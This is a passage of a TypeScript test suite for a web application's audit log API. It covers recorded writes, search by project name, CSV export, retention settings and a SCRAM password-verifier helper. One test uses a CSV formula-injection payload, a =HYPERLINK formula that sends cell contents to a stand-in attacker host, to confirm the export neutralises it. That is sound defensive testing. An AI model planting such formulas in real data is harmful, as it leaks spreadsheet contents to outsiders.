    expect((await api.get(`/api/v1/audit-log?from=2026-11-20&to=2026-11-20`, admin)).status).toBe(200);
    const stranger = await create({ userId: USERS.unassigned.id });
    expect(stranger.status).toBe(400);
    expect(stranger.body.fieldErrors.userId).toEqual(["This user has no access to the company"]);
    expect((await api.get(`/api/v1/sql-credentials?companyId=${birch.id}`, admin)).body.total).toBe(before);
    // A reader of the project may see the permissions but not change them.
    const viewerOnly = await api.send("PUT", `/api/v1/projects/${project.id}/sql-permissions`, await api.tokenFor(USERS.viewer), {
      entries: [{ credentialId: "x", level: "read", was: "none" }],
    });
    expect([403, 404]).toContain(viewerOnly.status);
  });
});

describe.skipIf(!TEST_POSTGRES_ADMIN_URL).each(TEST_DATABASE_KINDS)("the audit log of every other write on %s", (kind) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await createTestApi(kind);
  });
  afterAll(() => api?.close());

  it("records a successful write by its route, workspace and company, with what it changed; a refused one is not recorded", async () => {
    const owner = await api.tokenFor(USERS.clientAdmin);
    const admin = await api.tokenFor(USERS.superAdmin);
    const applicationId = (await makeApplication(api, birch.id)).id;
    const project = (await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name: "Audited", sourceType: "BackUp" })).body;
    const changed = await api.send("PATCH", `/api/v1/projects/${project.id}`, owner, { version: project.version, description: "Payroll" });
    expect(changed.status).toBe(200);
    expect((await api.send("PATCH", `/api/v1/projects/${project.id}`, owner, { version: project.version, description: "stale" })).status).toBe(409);
    const renamed = await api.send("PATCH", `/api/v1/projects/${project.id}`, owner, { version: changed.body.version, name: "Audited payroll" });
    expect(renamed.status).toBe(200);
    const own = (await api.send("POST", `/api/v1/projects/${project.id}/templates`, owner, { name: "Own", type: "Mapping" })).body;
    expect((await api.send("DELETE", `/api/v1/projects/${project.id}/templates/${own.id}?version=${own.version}`, owner)).status).toBe(200);

    const log = await api.get(`/api/v1/audit-log?action=api.write&companyId=${birch.id}&pageSize=100`, admin);
    const ours = log.body.items.filter((e: { workspaceId: string | null }) => e.workspaceId === project.id);
    // Each change with its before and after, beside the workspace and company its path names; the
    // stale PATCH (refused, rolled back) is not there.
    expect(ours).toHaveLength(5);
    expect(ours).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          target: "DELETE /api/v1/projects/:id/templates/:templateId",
          summary: { path: `/api/v1/projects/${project.id}/templates/${own.id}`, name: { before: "Own", after: "(deleted)" } },
        }),
        expect.objectContaining({
          target: "POST /api/v1/projects/:id/templates",
          summary: { path: `/api/v1/projects/${project.id}/templates`, name: "Own", type: "Mapping" },
        }),
        expect.objectContaining({
          target: "PATCH /api/v1/projects/:id",
          summary: { path: `/api/v1/projects/${project.id}`, name: { before: "Audited", after: "Audited payroll" } },
        }),
        expect.objectContaining({
          target: "PATCH /api/v1/projects/:id",
          userId: USERS.clientAdmin.id,
          companyId: birch.id,
          summary: { path: `/api/v1/projects/${project.id}`, description: { before: project.description, after: "Payroll" }, of: "Audited" },
        }),
      ]),
    );
    // Each in words, as the audit log page says it.
    expect(ours.map((e: { target: string }) => auditWriteLabel(e.target))).toEqual(
      expect.arrayContaining(["Template removed", "Template added", "Project details or status changed"]),
    );
    expect(auditWriteLabel("POST /api/v1/projects")).toBe("Project created");
    expect(auditWriteLabel("POST /api/v1/audit-projects/:id/run")).toBe("Run started");
    expect(auditWriteLabel("POST /api/v1/webhooks")).toBeNull();
    // The create, with the company, the workspace it made and the fields its body gave.
    expect(ours).toContainEqual(
      expect.objectContaining({
        target: "POST /api/v1/projects",
        companyId: birch.id,
        summary: { path: "/api/v1/projects", name: "Audited", applicationId, sourceType: "BackUp" },
      }),
    );
  });

  it("names each entry's project as it is called now, and finds a project's entries by part of its name or by its id", async () => {
    const owner = await api.tokenFor(USERS.clientAdmin);
    const admin = await api.tokenFor(USERS.superAdmin);
    const applicationId = (await makeApplication(api, birch.id)).id;
    const project = (
      await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name: "Quarterly ledger", sourceType: "FlatFile" })
    ).body;
    const other = (await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name: "Fleet register", sourceType: "FlatFile" }))
      .body;
    const renamed = await api.send("PATCH", `/api/v1/projects/${project.id}`, owner, { version: project.version, name: "Quarterly ledger 2026" });
    expect(renamed.status).toBe(200);
    await api.send("POST", `/api/v1/projects/${project.id}/templates`, owner, { name: "Ledger", type: "Core" });

    // By part of its current name, in any case, or by its id: its creation, its rename and its template, none of the other project's.
    for (const named of ["LEDGER 2026", project.id]) {
      const log = await api.get(`/api/v1/audit-log?workspace=${encodeURIComponent(named)}&pageSize=100`, admin);
      expect(log.status).toBe(200);
      expect(log.body.items.map((e: { target: string }) => e.target)).toEqual([
        "POST /api/v1/projects/:id/templates",
        "PATCH /api/v1/projects/:id",
        "POST /api/v1/projects",
      ]);
      for (const entry of log.body.items) expect(entry.workspace).toEqual({ id: project.id, name: "Quarterly ledger 2026", productType: "Migration" });
    }
    expect((await api.get(`/api/v1/audit-log?workspace=fleet`, admin)).body.items).toEqual([
      expect.objectContaining({
        target: "POST /api/v1/projects",
        workspaceId: other.id,
        workspace: { id: other.id, name: "Fleet register", productType: "Migration" },
      }),
    ]);
    expect((await api.get(`/api/v1/audit-log?workspace=nothing+called+this`, admin)).body.total).toBe(0);
    // The export says the project's name beside its id.
    const csv = await api.app.request(`/api/v1/audit-log.csv?workspace=fleet`, { headers: { authorization: `Bearer ${admin}` } });
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`,${other.id},Fleet register,`);
  });

  it("finds a name with a capital letter beyond ASCII typed as it is written (Überweisungen, Émile), as the list shows it, by its project and by what it holds", async () => {
    const owner = await api.tokenFor(USERS.clientAdmin);
    const admin = await api.tokenFor(USERS.superAdmin);
    const applicationId = (await makeApplication(api, birch.id)).id;
    const name = `Überweisungen Émile ${Date.now()}`;
    const project = (await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name, sourceType: "FlatFile" })).body;
    // As the page shows it, part of it, and in capitals (its ASCII letters in any case): its creation, found.
    for (const typed of [name, "Überweisungen Émile", "ÜBERWEISUNGEN"]) {
      for (const filter of ["workspace", "contains"]) {
        const log = await api.get(`/api/v1/audit-log?${filter}=${encodeURIComponent(typed)}&companyId=${birch.id}&pageSize=100`, admin);
        expect(log.status, `${filter}=${typed}`).toBe(200);
        expect(
          log.body.items.map((e: { workspaceId: string }) => e.workspaceId),
          `${filter}=${typed}`,
        ).toContain(project.id);
      }
    }
    const csv = await api.app.request(`/api/v1/audit-log.csv?contains=${encodeURIComponent("Überweisungen Émile")}&companyId=${birch.id}`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect((await csv.text()).trim().split("\r\n").length).toBeGreaterThan(1);
  });

  it("exports names that would be formulas in a spreadsheet as text: a project called =HYPERLINK(…) is a name, not a link", async () => {
    const owner = await api.tokenFor(USERS.clientAdmin);
    const admin = await api.tokenFor(USERS.superAdmin);
    const applicationId = (await makeApplication(api, birch.id)).id;
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const project = (await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name, sourceType: "FlatFile" })).body;
    const csv = await api.app.request(`/api/v1/audit-log.csv?workspace=${project.id}`, { headers: { authorization: `Bearer ${admin}` } });
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`,${project.id},"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",`);
    // The page's list keeps the name as it is.
    expect((await api.get(`/api/v1/audit-log?workspace=${project.id}`, admin)).body.items[0].workspace.name).toBe(name);
  });

  it("says how many days its entries are kept (AUDIT_RETENTION_DAYS), for the page to tell its readers", async () => {
    const admin = await api.tokenFor(USERS.superAdmin);
    expect((await api.get("/api/v1/audit-log?pageSize=10", admin)).body.retentionDays).toBe(365);
    const kept90 = await api.appWith({ auditRetentionDays: 90 }).request("/api/v1/audit-log?pageSize=10", { headers: { authorization: `Bearer ${admin}` } });
    expect(((await kept90.json()) as { retentionDays: number }).retentionDays).toBe(90);
  });
});

describe("scramVerifier", () => {
  it("writes PostgreSQL's stored form, with the salt and iteration count it was given", () => {
    const verifier = scramVerifier("pencil", Buffer.from("0123456789abcdef"), 4096);
    expect(verifier).toMatch(/^SCRAM-SHA-256\$4096:MDEyMzQ1Njc4OWFiY2RlZg==\$[A-Za-z0-9+/]{43}=:[A-Za-z0-9+/]{43}=$/);
    expect(scramVerifier("pencil", Buffer.from("0123456789abcdef"), 4096)).toBe(verifier);
    expect(scramVerifier("pencil2", Buffer.from("0123456789abcdef"), 4096)).not.toBe(verifier);
  });
});
